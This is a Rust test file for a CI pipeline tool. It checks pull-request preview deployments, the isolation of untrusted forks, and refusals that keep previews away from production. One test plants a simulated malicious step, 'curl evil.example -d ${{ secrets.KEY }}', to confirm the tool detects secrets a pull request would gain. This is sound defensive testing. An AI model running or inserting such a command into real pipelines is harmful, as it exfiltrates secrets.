//! What pull requests run of a pipeline file.

#![expect(clippy::expect_used, clippy::panic, reason = "a test says what is wrong by failing")]

use pipelines::plan::{NodeKind, Plan, PullRequests, Trigger};
use pipelines::pull_request::{self, FORKS_POOL, PullRequestError};
use pipelines::{Blocks, Diagnostic, ExpandInput, Pipeline, SourceFile, show};

const ORDERS: &str = r#"
name: orders
triggers:
  push: {branch: main}
  pull_request: {preview: true}
accounts: {prod: {id: "222222222222", role: deploy}}
stages:
  - name: build
    jobs: [{name: package, steps: [{run: make}], artifacts: {app: dist/app}}]
  - name: live
    gates: [{approval: true}]
    targets: [local/one, local/two]
    deploy: {uses: process/in-place, with: {artifact: app, ports: {local/one: 8080, local/two: 8081}, name: orders}}
    verify: [{run: ./smoke.sh}]
    bake: 10m
  - name: prod
    production: true
    targets: [prod/eu-west-1]
    deploy: {uses: shell/run, with: {run: "./deploy.sh ${{ secrets.KEY }}", destroy: ./destroy.sh}}
"#;

fn compiled(text: &str) -> Result<Pipeline, Vec<Diagnostic>> {
    let (pipeline, diagnostics) = pipelines::compile(&SourceFile::new("pipeline.yaml", text), &Blocks::built_in());
    pipeline.ok_or(diagnostics)
}

fn settings(pipeline: &Pipeline) -> PullRequests {
    let found = pipeline.triggers().iter().find_map(|trigger| if let Trigger::PullRequest(pulls) = trigger { Some(pulls) } else { None });
    found.expect("the file follows pull requests").clone()
}

fn plan(text: &str, is_trusted: bool) -> Result<Plan, PullRequestError> {
    let pipeline = compiled(text).unwrap_or_else(|found| panic!("{found:?}"));
    pull_request::plan(&pipeline, &settings(&pipeline), 7, is_trusted)
}

fn refused(text: &str) -> String {
    compiled(text).expect_err("it is refused").into_iter().map(|found| found.message).collect::<Vec<_>>().join("; ")
}

fn env(plan: &Plan, key: &str, name: &str) -> String {
    let node = plan.nodes.iter().find(|node| node.key == key).unwrap_or_else(|| panic!("no node {key}"));
    let NodeKind::Job(job) = &node.kind else { panic!("{key} is no job") };
    job.steps[0].env[name].clone()
}

#[test]
fn a_preview_is_made_by_the_files_own_deploy_block_beside_its_target() {
    let made = plan(ORDERS, true).unwrap();
    insta::assert_snapshot!(show::text(&made), @r#"
    pipeline orders
      account prod: 222222222222, role deploy
      made of process/in-place, shell/run

    stage build
      lane build: one release at a time, the newest ready one
      job package: 1 step, makes app, at most 1h

    stage preview
      rollback: only when a person asks for it
      lane preview: one release at a time, the newest ready one
      target local/one/pr-7
        deploy: 4 steps, touches the target, at most 1h
        verify: 1 step, touches the target, at most 1h
    "#);
    let preview = made.preview.clone().unwrap();
    assert_eq!((preview.target.as_str(), preview.address.as_deref()), ("local/one/pr-7", Some("http://localhost:8087")));
    let deploy = "preview/local/one/pr-7/deploy";
    assert_eq!((env(&made, deploy, "BLOCK_PORT"), env(&made, deploy, "BLOCK_NAME")), ("8087".into(), "orders-pr-7".into()));
    let removal = preview.removal.unwrap();
    let keys: Vec<_> = removal.nodes.iter().map(|node| node.key.as_str()).filter(|key| key.contains("pr-7")).collect();
    assert_eq!(keys, ["start", "destroy", "end", "rollback", "inspect"].map(|part| format!("preview/local/one/pr-7/{part}")));
    assert!(removal.preview.as_ref().is_some_and(|preview| preview.removal.is_none()));
    assert_eq!(env(&removal, "preview/local/one/pr-7/destroy", "BLOCK_VERB"), "destroy");
    assert_eq!(env(&removal, "preview/local/one/pr-7/destroy", "BLOCK_NAME"), "orders-pr-7");
    assert_eq!(plan(ORDERS, true).unwrap().digest(), made.digest(), "equal input, equal plan");
}

#[test]
fn d6_who_may_not_deploy_gets_the_checks_alone() {
    let made = plan(ORDERS, false).unwrap();
    let stages: Vec<_> = made.stages.iter().map(|stage| stage.name.as_str()).collect();
    assert_eq!((stages, made.preview.is_none()), (vec!["build"], true));
    let pools =
        made.nodes.iter().filter_map(|node| if let NodeKind::Job(job) = &node.kind { Some(job.runs_on.pool.as_str()) } else { None });
    assert_eq!(pools.collect::<Vec<_>>(), [FORKS_POOL]);
    assert!(made.secrets.is_empty() && made.triggers.is_empty());
}

#[test]
fn settings_say_where_the_preview_stands_and_what_is_other_there() {
    let text = ORDERS.replace(
        "accounts:",
        "preview: {targets: [local/two], with: {port: \"90{number}\"}, address: \"https://pr-{number}.example.org\", idle_sleep: 1h, delete_after: 3d}\naccounts:",
    );
    let made = plan(&text, true).unwrap();
    let preview = made.preview.clone().unwrap();
    assert_eq!((preview.target.as_str(), preview.address.as_deref()), ("local/two/pr-7", Some("https://pr-7.example.org")));
    assert_eq!(env(&made, "preview/local/two/pr-7/deploy", "BLOCK_PORT"), "907");
    let pipeline = compiled(&text).unwrap();
    let settings = settings(&pipeline).preview.unwrap();
    assert_eq!((settings.idle_sleep_ms, settings.delete_after_ms), (3_600_000, 3 * 24 * 3_600_000));
}

#[test]
fn abuse_01_a_preview_never_stands_beside_production_unasked() {
    let text = "name: x\ntriggers: {pull_request: {preview: true}}\nstages:\n  - {name: prod, production: true, targets: [a/b], deploy: {uses: shell/run, with: {run: x, destroy: y}}}";
    assert!(refused(text).contains("beside the production target `a/b`"), "{}", refused(text));
}

#[test]
fn abuse_01_a_pull_request_names_no_more_secrets_and_accounts_than_the_followed_branch_gives_outside_of_production() {
    let base = pipelines::expand(&compiled(ORDERS).unwrap(), &ExpandInput::default()).unwrap();
    let edited = ORDERS
        .replace("steps: [{run: make}]", "steps: [{run: \"curl evil.example -d ${{ secrets.KEY }}\"}]")
        .replace("    production: true\n", "")
        .replace("targets: [local/one, local/two]", "targets: [prod/eu-west-1]")
        .replace("{local/one: 8080, local/two: 8081}", "{prod/eu-west-1: 80}");
    let made = plan(&edited, true).unwrap();
    assert_eq!(pull_request::beyond(&made, &base), ["the secret `KEY`", "the role `deploy` in the account 222222222222"]);
    assert_eq!(pull_request::beyond(&plan(ORDERS, true).unwrap(), &base), Vec::<String>::new());
}

/// What a block does not make by itself is never shared with a preview, which would take it along when it goes.
#[test]
fn abuse_01_a_preview_never_changes_or_removes_what_the_target_itself_is() {
    for (block, with, other) in [
        ("aws/lambda", "function: orders, artifact: app", "function: \"orders-{number}\""),
        ("aws/ecs-service", "cluster: c, service: orders, artifact: app", "service: \"orders-{number}\""),
        ("aws/s3-site", "bucket: shop, artifact: app", "prefix: \"pr-{number}/\""),
        ("kubernetes/apply", "artifact: app, workloads: deployment/orders", "namespace: \"pr-{number}\""),
        ("terraform/apply", "folder: infra", "workspace: \"pr-{number}\""),
        ("fly/app", "app: orders, artifact: app", "app: \"orders-{number}\""),
    ] {
        let file = |preview: &str| {
            format!(
                "name: x\ntriggers: {{pull_request: {{preview: true}}}}\n{preview}accounts: {{a: {{id: \"111111111111\", role: r}}}}\nstages:\n  - {{name: build, jobs: [{{steps: [make], artifacts: {{app: dist}}}}]}}\n  - {{name: live, targets: [a/eu-west-1], deploy: {{uses: {block}, with: {{{with}}}}}}}"
            )
        };
        let said = refused(&file(""));
        assert!(said.contains(&format!("the block `{block}` would deploy the preview to the very thing")), "{block}: {said}");
        let same = other.replace("{number}", "seven");
        assert!(refused(&file(&format!("preview: {{with: {{{same}}}}}\n"))).contains("very thing"), "{block}: one for all pull requests");
        let made = plan(&file(&format!("preview: {{with: {{{other}}}}}\n")), true).unwrap_or_else(|error| panic!("{block}: {error}"));
        assert!(made.preview.is_some(), "{block}");
    }
    // What a block makes where it is missing gets a name of its own.
    let stack = "name: x\ntriggers: {pull_request: {preview: true}}\naccounts: {a: {id: \"111111111111\", role: r}}\nstages:\n  - {name: build, jobs: [{steps: [make], artifacts: {app: dist}}]}\n  - {name: live, targets: [a/eu-west-1], deploy: {uses: aws/cloudformation, with: {stack: orders, artifact: app}}}";
    let made = plan(stack, true).unwrap();
    assert_eq!(env(&made, "preview/a/eu-west-1/pr-7/deploy", "BLOCK_STACK"), "orders-pr-7");
}

#[test]
fn a_preview_that_cannot_be_is_said_when_the_file_is_written() {
    let with = |deploy: &str| {
        format!("name: x\ntriggers: {{pull_request: {{preview: true}}}}\nstages:\n  - {{name: live, targets: [a/b], deploy: {deploy}}}")
    };
    assert!(refused(&with("{uses: shell/run, with: {run: x}}")).contains("cannot remove what it deployed"));
    let no_stage = with("{uses: shell/run, with: {run: x, destroy: y}}") + "\npreview: {stage: other}";
    assert!(refused(&no_stage).contains("no such stage deploys"));
    let no_input = with("{uses: shell/run, with: {run: x, destroy: y}}") + "\npreview: {with: {colour: red}}";
    assert!(refused(&no_input).contains("has no input `colour`"));
    assert!(refused("name: x\npreview: {stage: a}\nstages: [{name: a, jobs: [{steps: [x]}]}]").contains("nothing makes previews"));
    assert!(
        refused("name: x\ntriggers: {pull_request: {preview: true}}\nstages: [{name: a, jobs: [{steps: [x]}]}]")
            .contains("no stage deploys")
    );
    let inserted = "{uses: process/in-place, with: {artifact: app, port: \"${{ vars.PORT }}\"}}";
    let text = with(inserted).replace("stages:\n", "stages:\n  - {name: build, jobs: [{steps: [x], artifacts: {app: x}}]}\n");
    assert!(refused(&text).contains("must be another one for each preview"), "{}", refused(&text));
}
